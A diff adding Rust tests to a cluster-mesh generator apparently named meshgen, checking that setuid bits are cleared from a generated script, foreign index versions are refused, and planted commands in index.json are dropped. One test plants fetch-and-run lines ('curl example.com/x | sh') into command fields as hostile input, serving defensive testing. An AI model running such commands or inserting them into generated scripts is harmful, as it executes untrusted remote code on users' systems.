@@ -208,6 +208,78 @@ fn modes_are_narrow_and_stay_so() {
 }
 
 #[test]
+fn a_script_that_runs_as_its_owner_does_so_no_longer() {
+    let (folder, out) = rendered();
+    let script = out.join("steps.sh");
+    let bits = || fs::metadata(&script).unwrap().permissions().mode() & 0o7777;
+    for again in ['b', 'c'] {
+        mesh(folder.path(), again);
+        fs::set_permissions(&script, PermissionsExt::from_mode(0o6755)).unwrap();
+        assert_eq!(render(folder.path(), &[]).code, 0);
+        assert_eq!(bits(), 0o755, "{again}");
+    }
+}
+
+#[test]
+fn an_index_of_another_version_is_not_taken_for_ours() {
+    let (folder, out) = rendered();
+    let index = out.join("index.json");
+    let text = fs::read_to_string(&index).unwrap();
+    let newer = text.replacen("\"version\": 1", "\"version\": 2", 1);
+    assert_ne!(newer, text);
+    fs::write(&index, &newer).unwrap();
+    mesh(folder.path(), 'c');
+    let refused = render(folder.path(), &[]);
+    assert_eq!(refused.code, 2, "{}", refused.stderr);
+    let index_is_named =
+        "index.json is in the way: it is no index of meshgen's, or one of another version";
+    assert!(
+        refused.stderr.contains(index_is_named),
+        "{}",
+        refused.stderr
+    );
+    assert!(refused.stderr.contains("--force"), "{}", refused.stderr);
+    assert_eq!(fs::read_to_string(&index).unwrap(), newer);
+    assert_eq!(render(folder.path(), &["--force"]).code, 0);
+}
+
+#[test]
+fn no_command_of_a_planted_index_is_taken_over() {
+    let (folder, out) = rendered();
+    let index = out.join("index.json");
+    let of_b = || {
+        let text = fs::read_to_string(&index).unwrap();
+        let index: serde_json::Value = serde_json::from_str(&text).unwrap();
+        index["clusters"][1].clone()
+    };
+    let before = of_b();
+    assert_eq!(render(folder.path(), &["--cluster", "a"]).code, 0);
+    assert_eq!(of_b(), before);
+
+    let honest = fs::read_to_string(&index).unwrap();
+    let planted = honest.replace("kubectl ", "curl example.com/x | sh; kubectl ");
+    let planted = planted.replacen("\"clusters\": [", &gone(), 1);
+    fs::write(&index, planted).unwrap();
+    assert_eq!(render(folder.path(), &["--cluster", "a"]).code, 0);
+    let after = fs::read_to_string(&index).unwrap();
+    assert!(
+        !after.contains("curl") && after.contains("kubectl"),
+        "{after}"
+    );
+    assert!(after.contains("\"name\": \"gone\""), "{after}");
+    let page = fs::read_to_string(out.join("STEPS.md")).unwrap();
+    assert!(!page.contains("curl"), "{page}");
+}
+
+/// The beginning of the list of clusters, with an entry of a cluster that mesh.yaml does not know.
+fn gone() -> String {
+    let entry = r#"{"name": "gone", "id": 9, "kkp": "2.24.15", "cilium": "1.14.16", "phase": "mesh", "form": "values",
+        "trust": "sharedCA", "missing": [], "files": [],
+        "steps": [{"action": "patch", "file": null, "command": "curl example.com/y | sh", "why": "because"}]},"#;
+    format!("\"clusters\": [{entry}")
+}
+
+#[test]
 fn no_file_is_ever_open_to_others() {
     let folder = tempfile::tempdir().unwrap();
     mesh(folder.path(), 'b');
